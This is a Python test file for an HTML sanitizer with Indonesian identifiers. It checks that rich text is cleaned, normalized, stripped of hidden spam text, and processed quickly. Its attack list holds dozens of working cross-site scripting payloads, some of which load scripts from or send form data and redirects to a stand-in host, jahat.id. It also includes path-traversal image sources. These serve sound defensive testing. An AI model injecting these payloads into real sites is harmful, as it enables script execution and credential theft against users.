"""The one door for rich text: what may pass, what must not, and one canonical form."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from informasi.teks.bersih import TAG, bersihkan, sumber_gambar, teks_saja, tersembunyi
from informasi.teks.pohon import KEDALAMAN, telusuri, tulis, uraikan

REL = ' rel="noopener nofollow ugc"'

SERANGAN = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//jahat.id/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/berkas/a.jpg' onerror=alert(1)>",
    "<img src=/berkas/a.jpg/onload=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src=//jahat.id/berkas/a.jpg>",
    "<img srcset='x 1x, javascript:alert(1) 2x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//jahat.id'>x</a>",
    "<a href='/\\jahat.id'>x</a>",
    "<a href='https://a.id' onclick=alert(1) target=_blank style='x'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;top:0'>x</p>",
    "<p id=beranda class=tombol name=x>x</p>",
    "<style>*{background:url(//jahat.id)}</style>",
    "<link rel=stylesheet href=//jahat.id>",
    "<meta http-equiv=refresh content='0;url=//jahat.id'>",
    "<base href=//jahat.id>",
    "<form action=//jahat.id><input name=sandi><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<table background=javascript:alert(1)><td background=x onmouseover=alert(1)>x",
    "<th scope='x onmouseover=alert(1)' colspan='1 onclick'>x</th>",
    "<img src=/berkas/a.jpg alt='\"><script>alert(1)</script>'>",
    "<b><i><u onmouseover=alert(1)>x",
    "<p/onclick=alert(1)>x",
    "<\0script>alert(1)</script>",
    "<custom-x onfocus=alert(1) autofocus tabindex=1>x</custom-x>",
]

POTONGAN = """
<p> </p> <b> </b> <strong> </strong> <em> </em> <i> <u> <s> </s> <div> </div> <br> <br><br> <ul> <li> </li>
</ul> <ol> </ol> <h1> </h1> <h2> </h2> <table> <tr> <td> </td> </table> <caption> <blockquote> </blockquote>
<figure> <figcaption> </figure> <hr> <a> </a> <img> teks a &nbsp; &lt; &amp; <script> <svg> <math> <!-- -->
<style> <select> <template> <form> < > " & \0
"""
UTUH = [
    '<a href="/x">',
    '<img src="/berkas/a.jpg" alt="<p></p>">',
    '<p style="display:none">',
    " ",
    "\n",
    "\u200b",
    "\ud800",
]
KEPING = st.sampled_from(POTONGAN.split() + UTUH)
HTML_ACAK = st.lists(KEPING, max_size=25).map("".join)


class Pemeriksa(HTMLParser):
    """Counts everything in a cleaned text that must never be there."""

    def __init__(self):
        super().__init__()
        self.pelanggaran = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAG:
            self.pelanggaran.append(tag)
        for nama, nilai in attrs:
            dikenal = nama in {"href", "src", "alt", "width", "height", "rel", "colspan", "rowspan", "scope"}
            skema = (nilai or "").strip().lower().split(":")[0]
            berbahaya = nama in {"href", "src"} and skema in {"javascript", "data", "vbscript"}
            if not dikenal or berbahaya or (nama == "src" and not nilai.startswith("/berkas/")):
                self.pelanggaran.append((tag, nama, nilai))

    def handle_comment(self, data):
        self.pelanggaran.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def pelanggaran(html):
    pemeriksa = Pemeriksa()
    pemeriksa.feed(html)
    pemeriksa.close()
    return pemeriksa.pelanggaran


@pytest.mark.parametrize("serangan", SERANGAN)
def test_serangan_menjadi_html_tak_berbahaya(serangan):
    assert pelanggaran(bersihkan(f"<p>awal</p>{serangan}<p>akhir</p>")) == []


@pytest.mark.parametrize("serangan", SERANGAN)
def test_serangan_yang_dibersihkan_dua_kali_tetap_sama(serangan):
    assert bersihkan(bersihkan(serangan)) == bersihkan(serangan)


def test_pemeriksa_uji_mengenali_serangan():
    assert len(pelanggaran("<script></script><p onclick=x><a href='javascript:x'><img src=x>")) == 4


@settings(max_examples=300, deadline=None)
@given(HTML_ACAK)
def test_pembersihan_idempoten_dan_aman(html):
    bersih = bersihkan(html)
    assert bersihkan(bersih) == bersih
    assert pelanggaran(bersih) == []


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(), max_size=80))
def test_teks_apa_pun_tidak_menggagalkan(teks):
    assert pelanggaran(bersihkan(teks)) == []


@pytest.mark.parametrize(
    "html",
    [
        "<p>a<br>b <strong>c</strong> <em>d</em> <u>e</u> <s>f</s></p>",
        "<h2>a</h2><h3>b</h3><h4>c</h4><hr>",
        "<ul><li>a<ul><li>b</li></ul></li></ul><ol><li>c</li></ol>",
        f'<p><a href="https://kota.id/a?b=1&amp;c=2"{REL}>x</a></p>',
        f'<p><a href="mailto:a@b.id"{REL}>x</a> <a href="tel:02"{REL}>y</a> <a href="/unit/"{REL}>z</a></p>',
        '<figure><img src="/berkas/q1/a.jpg" alt="" width="4" height="3"><figcaption>k</figcaption></figure>',
        '<table><caption>k</caption><thead><tr><th scope="col" colspan="2">a</th></tr></thead>'
        '<tbody><tr><td rowspan="2">b</td><td></td></tr></tbody></table>',
        "<blockquote><p>a</p></blockquote>",
    ],
)
def test_yang_diizinkan_tidak_berubah(html):
    assert bersihkan(html) == html


@pytest.mark.parametrize(
    ("mentah", "rapi"),
    [
        ("<p><b>a</b> <i>b</i> <strike>c</strike></p>", "<p><strong>a</strong> <em>b</em> <s>c</s></p>"),
        ("<h1>a</h1><h5>b</h5>", "<h2>a</h2><h4>b</h4>"),
        ("<div>a</div><div><div>b</div>c</div>", "<p>a</p><p>b</p><p>c</p>"),
        ("teks lepas", "<p>teks lepas</p>"),
        ("a<h2>b</h2>c", "<p>a</p><h2>b</h2><p>c</p>"),
        ("<blockquote>a</blockquote>", "<blockquote><p>a</p></blockquote>"),
        ("<p></p><p>&nbsp;</p><p><br></p><p><b> </b></p><p>a</p><h2></h2><ul></ul>", "<p>a</p>"),
        ("<p>a<br><br>b</p>", "<p>a</p><p>b</p>"),
        ("<p> a  \n b<br> </p>\n\n<p>c</p>", "<p>a b</p><p>c</p>"),
        ("<p><strong>Foto: </strong>a</p>", "<p><strong>Foto:</strong> a</p>"),
        ("<p><em><strong>a</strong></em></p>", "<p><strong><em>a</em></strong></p>"),
        ("<ul>\n<li><p>a</p></li>\n</ul>", "<ul><li>a</li></ul>"),
        ("<p><a name=x>a</a><img src=x></p>", "<p>a</p>"),
        ("<p>a<strong> </strong>b</p>", "<p>a b</p>"),
        ("<td>x", "<p>x</p>"),
        ("a\0b\ud800", "<p>a\ufffdb\ufffd</p>"),
    ],
)
def test_bentuk_baku(mentah, rapi):
    assert bersihkan(mentah) == rapi


@pytest.mark.parametrize(
    "sumber",
    [
        "https://jahat.id/a.jpg",
        "//berkas/a.jpg",
        "/berkas/../rahasia.jpg",
        "/berkas/%2e%2e/rahasia.jpg",
        "/berkas/a//b.jpg",
        "/berkas/a\\b.jpg",
        "/berkas/",
        "/berkas/a.jpg?x=1",
        "/media/a.jpg",
        "berkas/a.jpg",
    ],
)
def test_gambar_dari_tempat_lain_dibuang(sumber):
    assert bersihkan(f'<p>x<img src="{sumber}"></p>') == "<p>x</p>"


def test_ukuran_gambar_hanya_angka():
    assert bersihkan('<p><img src="/berkas/a.jpg" width="100%" height="9"></p>') == (
        '<p><img src="/berkas/a.jpg" height="9"></p>'
    )


def test_sumber_gambar_menurut_urutan():
    html = '<p><img src="/berkas/b.jpg"></p><figure><img src="/berkas/a.jpg"></figure><img src="//x.id/b">'
    assert sumber_gambar(html) == ["/berkas/b.jpg", "/berkas/a.jpg"]


def test_teks_tanpa_gambar_tidak_punya_sumber():
    assert sumber_gambar("<p>a</p>") == []


def test_teks_saja_memisahkan_paragraf():
    assert teks_saja("<h2>a</h2><p>b<br>c</p><p>d</p>") == "a\n\nb\nc\n\nd"


def test_teks_saja_tidak_menyambung_butir_dan_sel():
    assert teks_saja("<ul><li>a<ul><li>b</li></ul></li></ul><table><tr><td>x</td><td>y</td></tr></table>") == (
        "a\n\nb\n\nx\ty"
    )


def test_teks_saja_tidak_memuat_naskah_program():
    assert teks_saja("<script>jahat</script><style>x</style><p>a &amp; b</p>") == "a & b"


@pytest.mark.parametrize(
    "gaya",
    [
        "display:none",
        "DISPLAY : /* */ none",
        "visibility:hidden",
        "font-size:0",
        "font-size: 0.0px",
        "font-size:1px",
        "position:absolute;left:-9999px",
        "text-indent:-5000px",
        "opacity:0",
        "height:0;overflow:hidden",
        "color:transparent",
        "clip:rect(0,0,0,0)",
        "d\\69splay:none",
    ],
)
def test_teks_tersembunyi_ditemukan(gaya):
    assert tersembunyi(f"<p>a <span style='{gaya}'>slot <b>gacor</b></span></p>") == ["slot gacor"]


@pytest.mark.parametrize("gaya", ["color:red", "opacity:0.5", "font-size:0.9em", "line-height:0", "left:-5px", ""])
def test_gaya_biasa_bukan_penyembunyian(gaya):
    assert tersembunyi(f"<p style='{gaya}'>a</p>") == []


def test_atribut_hidden_menyembunyikan():
    assert tersembunyi("<div hidden>slot<p>gacor</p></div>") == ["slot\n\ngacor"]


def test_teks_dalam_dua_lapis_sembunyi_disebut_satu_kali():
    assert tersembunyi("<div style='display:none'><p style='display:none'>a</p></div>") == ["a"]


@pytest.mark.parametrize(
    "keping",
    [
        "<",
        "<p>",
        "<div>",
        "<strong>",
        "<ul><li>",
        "<table>",
        "<blockquote>",
        "&",
        "a<br>",
        "<a href=/x><p>",
        "\0",
        "/*",
    ],
)
def test_lima_puluh_kilobita_jahat_tetap_cepat(keping):
    html = (keping * 50_000)[:50_000]
    mulai = time.perf_counter()
    bersih = bersihkan(html)
    tersembunyi(html)
    assert time.perf_counter() - mulai < 4
    assert bersihkan(bersih) == bersih


def test_banjir_tag_hanya_menyisakan_kata():
    assert teks_saja("<b>kata</b>" * 15_000).split() == ["kata"] * 15_000


def test_sarang_terlalu_dalam_didatarkan_tanpa_kehilangan_kata():
    pohon = uraikan("<u>" * 60 + "dasar" + "</u>" * 60 + "<p>sesudah</p>")
    assert tulis(pohon) == "<u>" * KEDALAMAN + "dasar" + "</u>" * KEDALAMAN + "<p>sesudah</p>"


def test_pohon_ditulis_kembali_sama():
    html = '<p>a &amp; &lt;b&gt; &nbsp;<a href="/x?a=1&amp;b=&quot;">c</a><br><img src="/berkas/a" alt=""></p>'
    assert tulis(uraikan(html)) == html


def test_penelusuran_menurut_urutan_dokumen():
    assert [s.tag for s in telusuri(uraikan("<ul><li><em>a</em></li></ul><p>b</p>"))] == [
        "ul",
        "li",
        "em",
        "p",
    ]
